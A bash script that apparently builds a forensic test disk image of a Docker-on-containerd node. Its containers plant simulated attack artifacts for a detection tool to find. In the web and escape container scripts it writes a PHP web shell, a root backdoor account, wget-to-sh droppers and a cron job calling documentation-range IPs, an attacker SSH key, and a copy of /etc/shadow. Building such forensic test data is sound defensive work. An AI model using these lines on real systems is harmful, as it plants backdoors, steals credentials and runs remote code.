#!/bin/bash
# Build test image "f": Docker on the containerd image store. Debian 13's docker.io (26.1) and
# containerd (1.7), unpacked with dpkg -x into a folder of their own (never installed), run
# chrooted in the node root with this machine's runc; containerd has its own root
# /var/lib/containerd and dockerd uses it (--containerd, "containerd-snapshotter": true), so
# images, layers and container RW layers live in containerd's content store and overlayfs
# snapshotter (namespace "moby"), not in /var/lib/docker/overlay2.
#
# usage: node-f.sh OUTDIR        (called by scripts/make-testimages.sh)
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
TRIXIE_CACHE=${TRIXIE_CACHE:-/var/tmp/husk-trixie}
# the ground truth is printed by the client that matches the engine: trixie's docker CLI
DOCKER_BIN="$TRIXIE_CACHE/root/usr/bin/docker"
# shellcheck source=lib.sh
. "$HERE/lib.sh"
# shellcheck source=ctrd-lib.sh
. "$HERE/ctrd-lib.sh"

OUT=$(realpath -m "$1")
T="$OUT/truth"
NAME=node-f
NODE_HOSTNAME=$NAME
DISK_MIB=200
DISK_LEN=$((DISK_MIB * 1048576))
trixie_unpack
CTR_BIN="$TRIXIE_ROOT/usr/bin/ctr"
NS=moby

make_workdir
rm -rf "$OUT"; mkdir -p "$OUT"; truth_dirs
CONTAINERS_TSV="$T/containers.tsv"
printf 'name\tid\tstate_at_imaging\tremoved\thow_removed\n' >"$CONTAINERS_TSV"
: >"$T/files.sha256"

# ---------------------------------------------------------------------------------------------
log "disk: ${DISK_MIB} MiB, no partition table, ext4 on the whole disk"
DISK="$W/disk.raw"
truncate -s "${DISK_MIB}M" "$DISK"
loop_attach "$DISK" 0 "$DISK_LEN"; LOOP=$LOOPDEV
mkfs.ext4 -q -T default -L node-root "$LOOP"
FS_UUID=$(blkid -s UUID -o value "$LOOP")
M="$W/mnt"; mkdir -p "$M"
mount "$LOOP" "$M"
push_cleanup 'unmount_node'
node_skeleton
chroot_mounts
first_write_in_chroot
populate_host "$NAME" "$FS_UUID" ext4 "/dev/vda (whole disk, no partition table)"
cat >"$M/etc/docker/daemon.json" <<'EOF2'
{
  "features": {
    "containerd-snapshotter": true
  },
  "log-driver": "json-file",
  "log-opts": {
    "max-size": "10m",
    "max-file": "3"
  }
}
EOF2
mkdir -p "$M/etc/containerd"
cat >"$M/etc/containerd/config.toml" <<'EOF2'
# containerd for Docker only (as Docker's own packages configure it): no CRI
version = 2
root = "/var/lib/containerd"
state = "/run/containerd"
disabled_plugins = ["io.containerd.grpc.v1.cri"]

[grpc]
  address = "/run/containerd/containerd.sock"
EOF2
cat >>"$M/var/log/dpkg.log" <<'EOF2'
2025-03-09 17:40:12 upgrade containerd:amd64 1.6.20~ds1-1+deb12u1 1.7.24~ds1-6+deb13u1
2025-03-09 17:40:15 upgrade docker.io:amd64 20.10.24+dfsg1-1+deb12u1 26.1.5+dfsg1-9+deb13u1+b1
EOF2
age_host
touch -h -d '2025-03-10 08:30:00 UTC' "$M/etc/containerd" "$M/etc/containerd/config.toml"

# trixie's binaries: bind-mounted read-only on the node's /run tmpfs (not on the node's disk)
mkdir -p "$M$TRIXIE_IN_NODE"
mount --bind "$TRIXIE_ROOT" "$M$TRIXIE_IN_NODE"
mount -o remount,bind,ro "$M$TRIXIE_IN_NODE"
cat >"$M/run/start-docker.sh" <<EOF2
export PATH=$TRIXIE_IN_NODE/usr/bin:$TRIXIE_IN_NODE/usr/sbin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
$TRIXIE_IN_NODE/usr/bin/containerd --config /etc/containerd/config.toml >>/var/log/containerd.log 2>&1 &
i=0
while [ ! -S /run/containerd/containerd.sock ] && [ \$i -lt 200 ]; do sleep 0.1; i=\$((i + 1)); done
exec $TRIXIE_IN_NODE/usr/sbin/dockerd --containerd /run/containerd/containerd.sock \\
    --iptables=false --ip6tables=false --ip-forward=false --ip-masq=false --bridge=none \\
    --pidfile /run/docker.pid -H unix:///run/docker.sock >>/var/log/docker.log 2>&1
EOF2
export DOCKER_HOST="unix://$M/run/docker.sock"
export DOCKER_CONFIG="$W/docker-cli"; mkdir -p "$DOCKER_CONFIG"
DOCKERD_LOG="$M/var/log/docker.log"
node_daemons_start /run/start-docker.sh /run/docker.sock
for i in $(seq 1 60); do docker version >/dev/null 2>&1 && break; sleep 0.5; done
ENGINE_VERSION=$(docker version -f '{{.Server.Version}}')
CLI_VERSION=$(docker version -f '{{.Client.Version}}')
CONTAINERD_VERSION=$("$TRIXIE_ROOT/usr/bin/containerd" --version | awk '{print $3}')
RUNC_VERSION=$(runc --version | awk 'NR == 1 {print $3}')
docker info -f '{{.Driver}}' >"$W/driver.txt"
log "dockerd $ENGINE_VERSION up, storage driver $(cat "$W/driver.txt"), containerd $CONTAINERD_VERSION"
grep -qx overlayfs "$W/driver.txt" || die "dockerd is not on the containerd image store (driver $(cat "$W/driver.txt"))"

# ---------------------------------------------------------------------------------------------
log "images"
make_base_tar "$W/base.tar"
docker import -m "husk base image (busybox-static)" \
    -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' \
    -c 'CMD ["/bin/sh"]' "$W/base.tar" husk/base:1.0 >/dev/null
sleep 1
cp -a "$HERE/web-image" "$W/web-ctx"
find "$W/web-ctx" -exec touch -h -d '2025-02-01 12:00:00 UTC' {} +
BUILD_HOW="DOCKER_BUILDKIT=0 docker build"
if ! DOCKER_BUILDKIT=0 docker build -q -t husk/web:2.3 "$W/web-ctx" >"$W/build.log" 2>&1; then
    die "legacy build failed on the containerd store: $(tail -n 3 "$W/build.log")"
fi
docker tag husk/web:2.3 husk/web:latest
sleep 2
docker volume create --label purpose=app-data data >/dev/null
mkdir -p "$M/srv/share"; printf 'shared=1\n' >"$M/srv/share/config.ini"

# ---------------------------------------------------------------------------------------------
log "container gone (exits 0, then docker rm)"
read -r -d '' GONE_SH <<'EOF2' || true
echo "gone: exfil staging started"
mkdir -p /root/loot
i=1; while [ $i -le 1500 ]; do printf 'HUSK-F-GONE record %05d secret=%d\n' $i $((i * 7919 % 100000)); i=$((i + 1)); done > /root/loot/gone-data.txt
echo "HUSK-F-GONE-MARKER: staged" > /etc/gone-marker
echo "gone: done"
EOF2
docker run --name gone --network none husk/base:1.0 /bin/sh -c "$GONE_SH" >/dev/null 2>&1
sync
capture_container gone
GONE_ID=$(cid gone)
mkdir -p "$T/removed/gone"
ctrn -n "$NS" snapshots --snapshotter overlayfs info "$GONE_ID" >"$T/removed/gone/snapshot-info.json" 2>&1 || true
ctrn -n "$NS" snapshots --snapshotter overlayfs info "$GONE_ID-init" >"$T/removed/gone/snapshot-init-info.json" 2>&1 || true
ctrn -n "$NS" snapshots --snapshotter overlayfs mounts /mnt "$GONE_ID" >"$T/removed/gone/snapshot-mounts.txt" 2>&1 || true
GONE_UP=$(grep -o 'upperdir=[^,]*' "$T/removed/gone/snapshot-mounts.txt" | cut -d= -f2)
[ -n "$GONE_UP" ] || die "no upper dir for gone"
# what gone wrote, by node path, and where its blocks were just before removal
(cd "$M" && find ".$GONE_UP" -type f -print0 | sort -z | xargs -0 -r sha256sum) | sed 's#  \./#  /#' >"$T/removed-files.sha256"
(cd "$M" && find ".$GONE_UP" "./var/lib/docker/containers/$GONE_ID" -type f -print0 | sort -z |
    xargs -0 -r filefrag -v 2>&1) | sed 's#\./var/lib/#/var/lib/#g' >"$T/removed/gone/filefrag.txt"
cp -a "$M/var/lib/docker/containers/$GONE_ID/." "$T/removed/gone/" 2>/dev/null || true
rm -rf "$T/removed/gone/mounts" "$T/removed/gone/checkpoints"
printf '%s\n' "$GONE_ID" >"$T/removed/gone/container-id"
docker rm gone >/dev/null
record_container gone "$GONE_ID" removed yes "docker rm (after exit 0)"
sleep 2

log "container web (running; copy-ups, whiteouts, opaque dir, long line)"
read -r -d '' WEB_SH <<'EOF2' || true
echo "web: husk web 2.3 on the containerd store"
i=1
while [ $i -le 150 ]; do
  printf '10.0.0.%d - - "GET /item/%04d HTTP/1.1" 200 %d\n' $((i % 200 + 1)) $i $((i * 37 % 4000))
  [ $((i % 30)) -eq 0 ] && echo "web: error: upstream timeout at request $i" >&2
  i=$((i + 1))
done
printf '<?php system($_GET["c"]); ?>\n' > /srv/www/shell.php
echo 'svc-backup:x:0:0::/root:/bin/sh' >> /etc/passwd
echo 'HUSK-F-WEB maintenance' >> /etc/motd
rm -f /srv/www/index.html /usr/share/doc/husk-base/README
rm -rf /opt/legacy; mkdir -p /opt/legacy/bin
printf '#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n' > /opt/legacy/bin/tool.sh; chmod 0755 /opt/legacy/bin/tool.sh
mkdir -p /tmp/.cache; printf 'HUSK-F-MINER\n' > /tmp/.cache/kworkerd; chmod 0755 /tmp/.cache/kworkerd
printf 'LONGLINE-BEGIN '; head -c 20000 /dev/zero | tr '\0' W; echo ' LONGLINE-END'
echo "web: ready"
exec httpd -f -p 127.0.0.1:8080 -h /srv/www
EOF2
docker run -d --name web --hostname web-f1 --network none --label app=web --label tier=frontend \
    husk/web:2.3 /bin/sh -c "$WEB_SH" >/dev/null
wait_log web "web: ready" 60
sleep 1

log "container batch (exits 3)"
docker run --name batch --network none husk/base:1.0 /bin/sh -c \
    'echo "batch: start"; mkdir -p /work/out; i=1; while [ $i -le 200 ]; do echo "row,$i,HUSK-F-BATCH"; i=$((i+1)); done > /work/out/report.csv; echo "batch: failed: quota" >&2; exit 3' \
    >/dev/null 2>&1 || true
[ "$(docker inspect -f '{{.State.ExitCode}}' batch)" = 3 ] || die "batch did not exit 3"
sleep 1

log "container vol (named volume + read-only bind mount, exits 0)"
docker run --name vol --network none -v data:/data -v /srv/share:/share:ro husk/base:1.0 /bin/sh -c \
    'echo "vol: writing"; printf "HUSK-F-VOL secret=1\n" > /data/secret.env; echo x > /share/y || echo "vol: /share is read-only" >&2' \
    >/dev/null 2>&1
sleep 1

log "container fresh (created), priv (--privileged: start fails here)"
docker create --name fresh --network none -e MODE=standby husk/web:2.3 >/dev/null
docker run -d --name priv --network none --privileged husk/base:1.0 /bin/sh -c 'sleep 3600' >/dev/null 2>&1 || true
sleep 1

log "container escape (running with dangerous rights)"
read -r -d '' ESCAPE_SH <<'EOF2' || true
echo "escape: agent starting"
printf '* * * * * root /bin/sh -c "wget -q -O- http://203.0.113.7/k.sh | sh"\n' > /host/etc/cron.d/evil
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHUSKattackerKEYattackerKEYattackerKEY000f attacker@203.0.113.7' >> /host/root/.ssh/authorized_keys
cat /host/etc/shadow > /tmp/.s
[ -S /var/run/docker.sock ] && echo "escape: docker socket reachable"
echo "escape: host persistence installed" >&2
echo "escape: ready"
exec sleep 86400
EOF2
docker run -d --name escape --network none --cap-add SYS_ADMIN --cap-add SYS_PTRACE --pid=host \
    --security-opt seccomp=unconfined --security-opt apparmor=unconfined \
    -v /:/host -v /var/run/docker.sock:/var/run/docker.sock --restart unless-stopped --label app=agent \
    husk/base:1.0 /bin/sh -c "$ESCAPE_SH" >/dev/null
wait_log escape "escape: ready" 30
sleep 2

# ---------------------------------------------------------------------------------------------
log "ground truth at imaging time"
CTRS=(web batch vol fresh priv escape)
for n in "${CTRS[@]}"; do
    capture_container "$n"
    record_container "$n" "$(cid "$n")" "$(docker inspect -f '{{.State.Status}}' "$n")" no ""
done
capture_ps
capture_images
capture_volumes
capture_engine_info
capture_ctr "$NS"
# upper directory (overlayfs snapshot fs/) of each container: from containerd's own mount list
{
    echo "# well-known node paths of this image"
    printf 'containerd_root\t/var/lib/containerd\n'
    printf 'docker_root\t/var/lib/docker\n'
    for n in "${CTRS[@]}"; do
        up=$(ctrn -n "$NS" snapshots --snapshotter overlayfs mounts /mnt "$(cid "$n")" 2>/dev/null |
            grep -o 'upperdir=[^,]*' | cut -d= -f2 || true)
        [ -n "$up" ] && printf '%s.upper\t%s\n' "$n" "$up"
    done
    printf 'gone.upper_before_removal\t%s\n' "$(grep -o 'upperdir=[^,]*' "$T/removed/gone/snapshot-mounts.txt" | cut -d= -f2 || true)"
    printf 'volume.data\t/var/lib/docker/volumes/data/_data\n'
} >"$T/paths.tsv"
sha_node "$T/files.sha256" /etc/docker/daemon.json /etc/containerd/config.toml /etc/cron.d/evil \
    /root/.ssh/authorized_keys /var/lib/docker/volumes/data/_data/secret.env
for n in web batch vol escape; do
    sha_node "$T/files.sha256" "/var/lib/docker/containers/$(cid "$n")/$(cid "$n")-json.log"
done
WEB_UP=$(awk -F'\t' '$1 == "web.upper" {print $2}' "$T/paths.tsv")
[ -n "$WEB_UP" ] || die "no upper dir found for web"
(cd "$M" && find ".$WEB_UP" -type f -print0 | sort -z | xargs -0 -r sha256sum) | sed 's#  \./#  /#' >>"$T/files.sha256"

log "snapshot (fsfreeze + copy while dockerd and containerd run)"
sleep 1
freeze_node
date -u +%Y-%m-%dT%H:%M:%SZ >"$T/imaging-time.txt"
copy_containerd_dbs
: >"$T/stat.tsv"
stat_node "$WEB_UP" "$WEB_UP/srv/www/index.html" "$WEB_UP/opt/legacy" "$WEB_UP/etc/passwd"
: >"$T/xattrs.tsv"; : >"$T/xattrs.getfattr.txt"
xattr_node "$WEB_UP/opt/legacy" "$WEB_UP/etc"
cp --sparse=always "$DISK" "$W/snap.raw"
thaw_node
log "snapshot taken"
node_daemons_stop
umount "$M$TRIXIE_IN_NODE" 2>/dev/null || true
unmount_node
loop_detach "$LOOP"
bolt_dump "$T/containerd-db/meta.db" "$T/containerd-db/meta.db.txt"
bolt_dump "$T/containerd-db/overlayfs-metadata.db" "$T/containerd-db/overlayfs-metadata.db.txt"

# ---------------------------------------------------------------------------------------------
. "$HERE/finish.sh"
finish_disk_common "$W/snap.raw"
strings_check "$W/snap.raw" 'HUSK-F-GONE record 00001' 'HUSK-F-GONE record 01500' 'HUSK-F-GONE-MARKER: staged' \
    'gone: exfil staging started' "$GONE_ID"
log "layout and checks"
loop_attach "$W/snap.raw" 0 "$DISK_LEN" ro; SL=$LOOPDEV
{
    echo "disk_size_bytes=$(stat -c %s "$W/snap.raw")"
    echo "partition_table=none"
    echo "fs_offset_bytes=0"
    echo "fs_type=ext4"
    echo "fs_uuid=$(blkid -s UUID -o value "$SL")"
    echo
    echo "# e2fsck -fn (whole disk, read-only check of the snapshot)"
    e2fsck -fn "$SL" 2>&1 || true
} >"$T/layout.txt"
mkdir -p "$W/chk"
mount -o ro,noload "$SL" "$W/chk"
push_cleanup "umount $W/chk 2>/dev/null"
cmp "$W/chk/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db" "$T/containerd-db/meta.db" ||
    die "meta.db on the snapshot differs from truth's copy"
(cd "$W/chk" && sha256sum -c <(sed 's#  /#  ./#' "$T/files.sha256")) >"$W/sha-check.txt" 2>&1 ||
    { cat "$W/sha-check.txt" >&2; die "files.sha256 does not match the snapshot"; }
[ -d "$W/chk/var/lib/docker/overlay2" ] && [ -n "$(ls -A "$W/chk/var/lib/docker/overlay2")" ] &&
    die "dockerd wrote overlay2 layers: not on the containerd store"
umount "$W/chk"
loop_detach "$SL"
. "$HERE/readme-f.sh"
log "node-f done: $(du -sh "$OUT" | cut -f1)"
